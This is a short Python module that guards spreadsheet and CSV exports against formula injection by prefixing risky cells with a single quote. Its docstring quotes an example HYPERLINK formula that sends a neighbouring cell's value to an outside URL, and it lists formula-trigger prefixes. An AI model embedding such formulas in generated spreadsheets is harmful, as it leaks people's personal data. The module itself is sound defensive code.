"""What every spreadsheet and CSV leaving the portal does to a cell: no text may run as a formula.

A cell starting with = + - @ (or their full-width forms, which some spreadsheet programs fold), a
tab or a line break is read by Excel, WPS and LibreOffice as a formula or as the start of one
(`=HYPERLINK("http://…?"&A2, "点击")` sends a neighbouring cell, an ID number say, elsewhere when
clicked). Such text gets a leading single quote, which spreadsheet programs show as text and which
openpyxl then stores as a string rather than a formula. Numbers, dates and empty cells pass as they
are. Used by the public CSV exports, the request register, the appeals and the report's XLSX.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralise(value):
    """`value` as it may be written to a spreadsheet or CSV cell."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value
